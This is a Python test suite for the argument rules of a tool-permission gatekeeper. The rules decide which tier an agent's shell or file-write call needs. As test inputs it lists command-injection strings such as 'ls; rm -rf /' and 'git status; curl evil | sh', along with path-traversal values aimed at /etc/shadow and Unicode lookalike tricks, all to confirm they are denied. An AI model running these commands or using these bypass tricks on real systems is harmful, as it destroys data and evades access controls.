"""Argument rules (`tools.arguments`, gatekeeper/rules/arguments.py): what a pattern matches, the
tier a call needs, the tier a tool is offered at, and the attacks a lowering rule must not let
through. Pure: no server."""

from __future__ import annotations

import json
import string
from typing import Any

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from pydantic import ValidationError

from gatekeeper.config import Settings
from gatekeeper.errors import ConfigError
from gatekeeper.rules.arguments import ArgumentRule, narrowed_schema
from gatekeeper.rules.tiers import Tier
from gatekeeper.rules.tools import ToolId, ToolPolicy

SMALL, MEDIUM, LARGE = Tier.SMALL, Tier.MEDIUM, Tier.LARGE


def rules(spec: dict[str, list[dict[str, Any]]]) -> dict[str, list[ArgumentRule]]:
    return {tool: [ArgumentRule.model_validate(e) for e in entries] for tool, entries in spec.items()}


# execute_command is large on its own; `ls` and `git status` lower it, `rm` keeps it large.
# write_file is small on its own; a path under /etc raises it.
POLICY = ToolPolicy(
    {"execute_command": LARGE},
    arguments=rules(
        {
            "execute_command": [
                {"match": {"command": "ls *"}, "tier": "small"},
                {"match": {"command": "git status*"}, "tier": "small"},
                {"match": {"command": {"regex": "cat [a-z]+\\.txt"}}, "tier": "medium"},
                {"match": {"command": "rm *"}, "tier": "large"},
            ],
            "write_file": [{"match": {"path": "/etc/*"}, "tier": "large"}],
        }
    ),
    default_tier=SMALL,
)


def needs(tool: str | ToolId, arguments: Any) -> Tier:
    text = arguments if isinstance(arguments, str) else json.dumps(arguments)
    return POLICY.call_tier(tool, text)


def command(value: Any) -> Tier:
    return needs("execute_command", {"command": value})


# -- the contract ------------------------------------------------------------------------------


def test_a_lowering_entry_admits_its_calls_lower():
    assert command("ls -la /tmp") is SMALL
    assert command("git status --short") is SMALL
    assert command("cat notes.txt") is MEDIUM


def test_a_call_no_entry_matches_needs_the_tools_own_tier():
    assert command("python -c 'print(1)'") is LARGE
    assert needs("write_file", {"path": "/tmp/a"}) is SMALL


def test_a_raising_entry_raises_its_calls():
    assert needs("write_file", {"path": "/etc/passwd"}) is LARGE


def test_the_highest_matching_entry_wins():
    policy = ToolPolicy(
        arguments=rules({"t": [{"match": {"a": "x*"}, "tier": "medium"}, {"match": {"a": "xy*"}, "tier": "large"}]})
    )
    assert policy.call_tier("t", '{"a": "xyz"}') is LARGE
    assert policy.call_tier("t", '{"a": "xa"}') is MEDIUM


def test_a_pattern_matches_the_whole_value():
    assert command("sudo ls") is LARGE  # `ls *` is not "contains ls"
    assert command("ls") is LARGE  # `ls *` needs the space: write `ls*` or a second entry for bare `ls`


def test_every_listed_argument_must_match():
    policy = ToolPolicy(
        {"set_mode": LARGE},
        arguments=rules(
            {"set_mode": [{"match": {"mode": {"equals": 1}, "options.force": {"equals": False}}, "tier": "small"}]}
        ),
    )
    assert policy.call_tier("set_mode", '{"mode": 1, "options": {"force": false}}') is SMALL
    assert policy.call_tier("set_mode", '{"mode": 1, "options": {"force": true}}') is LARGE
    assert policy.call_tier("set_mode", '{"mode": 1}') is LARGE


def test_an_array_position_in_a_path():
    policy = ToolPolicy(
        {"run": LARGE}, arguments=rules({"run": [{"match": {"argv.0": {"equals": "ls"}}, "tier": "small"}]})
    )
    assert policy.call_tier("run", '{"argv": ["ls", "-la"]}') is SMALL
    assert policy.call_tier("run", '{"argv": ["rm", "ls"]}') is LARGE


def test_equals_compares_json_values_with_their_types():
    lowered = ToolPolicy(
        {"set_mode": LARGE}, arguments=rules({"set_mode": [{"match": {"m": {"equals": 1}}, "tier": "small"}]})
    )
    assert lowered.call_tier("set_mode", '{"m": 1}') is SMALL
    assert lowered.call_tier("set_mode", '{"m": true}') is LARGE  # JSON's true is not 1
    assert lowered.call_tier("set_mode", '{"m": "1"}') is LARGE
    assert lowered.call_tier("set_mode", '{"m": 1.0}') is SMALL  # the same JSON number


def test_a_type_test():
    typed = ToolPolicy(
        {"resize": LARGE}, arguments=rules({"resize": [{"match": {"size": {"type": "integer"}}, "tier": "small"}]})
    )
    assert typed.call_tier("resize", '{"size": 3}') is SMALL
    assert typed.call_tier("resize", '{"size": true}') is LARGE
    assert typed.call_tier("resize", '{"size": 3.5}') is LARGE
    number = ToolPolicy(
        {"resize": LARGE}, arguments=rules({"resize": [{"match": {"size": {"type": "number"}}, "tier": "small"}]})
    )
    assert number.call_tier("resize", '{"size": 3}') is SMALL
    assert number.call_tier("resize", '{"size": 3.5}') is SMALL
    assert number.call_tier("resize", '{"size": "3"}') is LARGE


def test_a_tool_is_offered_at_the_lowest_tier_some_call_needs():
    assert POLICY.required_tier("execute_command") is SMALL
    assert POLICY.own_tier("execute_command") is LARGE
    assert POLICY.required_tier("write_file") is SMALL
    assert POLICY.allows(SMALL, "execute_command")


def test_argument_rules_reach_a_tool_inside_a_namespace_or_server():
    assert needs(ToolId.namespaced("ns", "execute_command"), {"command": "rm -rf /"}) is LARGE
    assert needs(ToolId.mcp("shell", "write_file"), {"path": "/etc/x"}) is LARGE


def test_a_server_scoped_key_reaches_an_unnamed_server_only_to_raise():
    policy = ToolPolicy(
        {"github.*": LARGE},
        arguments=rules({"github.run": [{"match": {"cmd": "ls *"}, "tier": "small"}]}),
    )
    assert policy.call_tier(ToolId.mcp("github", "run"), '{"cmd": "ls -la"}') is SMALL
    # `gh` may be github under another label: github's entries apply at their strictest.
    assert policy.call_tier(ToolId.mcp("gh", "run"), '{"cmd": "ls -la"}') is LARGE


def test_a_tool_without_argument_rules_is_judged_as_before():
    assert not POLICY.judges_arguments("read_file")
    assert POLICY.call_tier("read_file", "not json") is SMALL
    assert POLICY.admits_call(SMALL, "read_file", None)


# -- attacks on a lowering entry ---------------------------------------------------------------


@pytest.mark.parametrize(
    "value",
    [
        "ls; rm -rf /",
        "ls && rm -rf /",
        "ls || rm -rf /",
        "ls | sh",
        "ls & rm -rf /",
        "ls\nrm -rf /",
        "ls\rrm -rf /",
        "ls\u2028rm -rf /",
        "ls\u0085rm -rf /",
        "ls $(rm -rf /)",
        "ls ${IFS}",
        "ls `rm -rf /`",
        "ls > /etc/passwd",
        "ls < /dev/zero",
        "ls <(rm -rf /)",
        "ls (x)",
        "ls \x00rm",
        "git status; curl evil | sh",
    ],
)
def test_a_compound_command_does_not_match_a_simple_command_pattern(value):
    assert command(value) is LARGE


def test_a_pattern_that_writes_a_control_character_matches_it():
    policy = ToolPolicy({"run": LARGE}, arguments=rules({"run": [{"match": {"c": "ls * | wc -l"}, "tier": "small"}]}))
    assert policy.call_tier("run", '{"c": "ls /tmp | wc -l"}') is SMALL
    assert policy.call_tier("run", '{"c": "ls /tmp | sh | wc -l"}') is LARGE  # the wildcard still stops at `|`


@pytest.mark.parametrize(
    "value",
    [
        "LS -la",  # case
        "Ls -la",
        "\uff4c\uff53 -la",  # fullwidth ｌｓ
        "l\u200bs -la",  # a zero-width space
        "\u217cs -la",  # roman numeral ⅼ
        "ls /tmp\uff1brm -rf /",  # a fullwidth semicolon, which NFKC reads as `;`
        "ls /tmp\uff06\uff06rm",  # fullwidth ＆＆
    ],
)
def test_lookalikes_and_case_tricks_do_not_lower(value):
    assert command(value) is LARGE


@pytest.mark.parametrize(
    "arguments",
    [
        '{"command": "ls", "command": "rm -rf /"}',  # duplicate keys: readers disagree on which wins
        '{"command": "ls -la", "Command": "rm -rf /"}',  # a key that reads like the argument's
        '{"command": "ls -la", "command\u200b": "rm -rf /"}',
        '{"command": ["ls", "-la"]}',  # not a string where the pattern expects one
        '{"command": null}',
        "{}",  # the argument is missing
        "not json",
        '{"command": "ls -la"',  # cut off
        '["ls -la"]',  # not an object
        '{"command": "ls -la", "n": NaN}',
        '{"command": "ls \\ud800"}',  # a lone surrogate
        "",
    ],
)
def test_arguments_a_reader_could_take_another_way_do_not_lower(arguments):
    assert needs("execute_command", arguments) is LARGE


def test_a_path_with_dot_dot_does_not_escape_a_lowering_pattern():
    policy = ToolPolicy({"read": LARGE}, arguments=rules({"read": [{"match": {"p": "/srv/data/*"}, "tier": "small"}]}))
    assert policy.call_tier("read", '{"p": "/srv/data/a.csv"}') is SMALL
    assert policy.call_tier("read", '{"p": "/srv/data/../../etc/shadow"}') is LARGE
    assert policy.call_tier("read", '{"p": "/srv/data/x/../../../etc/shadow"}') is LARGE


def test_arguments_too_long_to_read_need_the_strictest_tier():
    assert command("ls " + "a" * 300_000) is LARGE


# -- attacks on a raising entry ----------------------------------------------------------------


@pytest.mark.parametrize(
    "path",
    [
        "/etc/passwd",
        "/ETC/passwd",
        "//etc/passwd",
        "/tmp/../etc/passwd",
        "/./etc/shadow",
        "/e\u200btc/passwd",
        "\uff0fetc/passwd",
    ],
)
def test_a_raising_entry_is_not_escaped_by_spelling_the_path_another_way(path):
    assert needs("write_file", {"path": path}) is LARGE


@pytest.mark.parametrize(
    "arguments",
    ['{"Path": "/etc/passwd"}', '{"path ": "/etc/passwd"}', '{"path": 5}', '{"path": ["/etc/passwd"]}', "nope"],
)
def test_a_raising_entry_matches_any_reading_of_the_arguments(arguments):
    assert needs("write_file", arguments) is LARGE


def test_a_raising_entry_reads_each_command_of_a_compound_one():
    policy = ToolPolicy(arguments=rules({"run": [{"match": {"c": "rm *"}, "tier": "large"}]}))
    assert policy.call_tier("run", '{"c": "ls && rm -rf /"}') is LARGE
    assert policy.call_tier("run", '{"c": "ls $(rm -rf /)"}') is LARGE
    assert policy.call_tier("run", '{"c": "ls -la"}') is SMALL


def test_a_tool_name_that_only_reads_like_a_rules_key_gets_its_strictest_tier():
    for name in ("EXECUTE_COMMAND", "execute_command\u200b", "Write_File"):
        assert POLICY.call_tier(name, '{"command": "ls -la", "path": "/tmp/x"}') is LARGE
        assert POLICY.required_tier(name) is LARGE


# -- property tests: values generated around each pattern --------------------------------------

_CONTROL = [";", "&&", "||", "|", "&", "\n", "\r", "`", "$(", ">", "<", "\u2028", "\x00", "\uff1b"]
_SAFE = st.text(alphabet=string.ascii_lowercase + string.digits + "-_./ ", max_size=20)


@settings(max_examples=300, deadline=None)
@given(head=_SAFE, op=st.sampled_from(_CONTROL), tail=st.text(max_size=20))
def test_property_a_value_with_a_control_operator_is_never_lowered(head, op, tail):
    assert command(f"ls {head}{op}{tail}") is LARGE
    assert command(f"git status{head}{op}{tail}") is LARGE


@settings(max_examples=300, deadline=None)
@given(rest=_SAFE)
def test_property_a_plain_value_the_pattern_covers_is_lowered(rest):
    if "/" in rest and ".." in rest.split("/"):
        return  # a `..` segment reads as another path: judged apart (test above)
    assert command(f"ls {rest}") is SMALL


@settings(max_examples=300, deadline=None)
@given(value=st.text(max_size=30))
def test_property_a_lowering_match_is_always_a_raw_match(value):
    """Whatever the value, a lowered call is one whose raw text the pattern matches, with no
    shell control character and no line break in what the wildcard covered."""
    tier = command(value)
    if tier is SMALL:
        assert value.startswith(("ls ", "git status"))
        assert not any(c in value for c in ";&|`$<>()\n\r\x00\u2028\u2029")


@settings(max_examples=300, deadline=None)
@given(
    prefix=st.sampled_from(["/etc/", "/ETC/", "//etc/", "/tmp/../etc/", "/etc/./", "/\uff45tc/"]),
    rest=st.text(alphabet=string.ascii_letters + string.digits + "._-", min_size=1, max_size=15),
)
@example(prefix="//etc/", rest=".")  # the directory itself, once read as `/etc` (found by CI)
def test_property_every_spelling_of_a_raised_path_stays_raised(prefix, rest):
    assert needs("write_file", {"path": prefix + rest}) is LARGE


@settings(max_examples=200, deadline=None)
@given(
    value=st.recursive(
        st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False),
        lambda c: st.lists(c, max_size=3) | st.dictionaries(st.text(max_size=5), c, max_size=3),
        max_leaves=5,
    )
)
def test_property_a_non_string_never_matches_a_lowering_pattern(value):
    assert command(value) is LARGE


# -- the schema offered to the model ------------------------------------------------------------

SCHEMA = {"type": "object", "properties": {"command": {"type": "string", "description": "what to run"}}}


def test_the_schema_is_narrowed_to_the_calls_a_lower_tier_may_make():
    narrowed = POLICY.narrowed(SMALL, "execute_command", SCHEMA)
    assert narrowed is not None and narrowed["required"] == ["command"]
    prop = narrowed["properties"]["command"]
    assert prop["description"] == "what to run" and prop["pattern"].startswith("^(?:(?:ls ")
    import re

    pattern = re.compile(prop["pattern"])
    assert pattern.match("ls -la") and pattern.match("git status")
    assert not pattern.match("ls; rm -rf /") and not pattern.match("rm -rf /")
    assert SCHEMA["properties"]["command"] == {"type": "string", "description": "what to run"}  # not changed


def test_equals_entries_narrow_to_an_enum():
    policy = ToolPolicy(
        {"mode": LARGE},
        arguments=rules(
            {
                "mode": [
                    {"match": {"m": {"equals": "a"}}, "tier": "small"},
                    {"match": {"m": {"equals": "b"}}, "tier": "small"},
                ]
            }
        ),
    )
    schema = {"type": "object", "properties": {"m": {"type": "string"}}}
    assert policy.narrowed(SMALL, "mode", schema)["properties"]["m"] == {"type": "string", "enum": ["a", "b"]}


def test_no_narrowing_where_the_tool_is_admitted_whole_or_it_cannot_be_said():
    assert POLICY.narrowed(LARGE, "execute_command", SCHEMA) is None  # its own tier: every call
    assert POLICY.narrowed(SMALL, "write_file", {"type": "object", "properties": {"path": {}}}) is None
    two_args = rules({"t": [{"match": {"a": "x", "b": "y"}, "tier": "small"}]})
    assert narrowed_schema(SCHEMA, list(ToolPolicy({"t": LARGE}, arguments=two_args).argument_entries("t")[0])) is None


# -- the config -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("entry", "says"),
    [
        ({"match": {}, "tier": "small"}, "tools.arguments.run.0.match"),
        ({"match": {"c": {"regex": "("}}, "tier": "small"}, "not a regular expression"),
        ({"match": {"c": "ls *"}, "tier": "tiny"}, "tools.arguments.run.0.tier"),
        ({"match": {"a..b": "x"}, "tier": "small"}, "argument path"),
        ({"match": {"c": {"glob": "x"}}, "tier": "small"}, "tools.arguments.run.0.match.c"),
        ({"match": {"c": "x"}, "tier": "small", "why": "?"}, "unknown key"),
    ],
)
def test_a_bad_entry_is_refused_with_its_path(tmp_path, entry, says):
    from gatekeeper.config import load_settings

    config = tmp_path / "gatekeeper.yaml"
    config.write_text(json.dumps({"tools": {"arguments": {"run": [entry]}}}))
    with pytest.raises(ConfigError) as error:
        load_settings(config)
    assert says in str(error.value)


def test_the_config_carries_the_rules_to_the_policy():
    settings_ = Settings.model_validate(
        {
            "tools": {
                "required_tier": {"run": "large"},
                "arguments": {"run": [{"match": {"c": "ls *"}, "tier": "small"}]},
            }
        }
    )
    assert isinstance(settings_.tools.arguments["run"][0], ArgumentRule)
    with pytest.raises(ValidationError):
        Settings.model_validate({"tools": {"arguments": {"run": {"match": {"c": "x"}, "tier": "small"}}}})
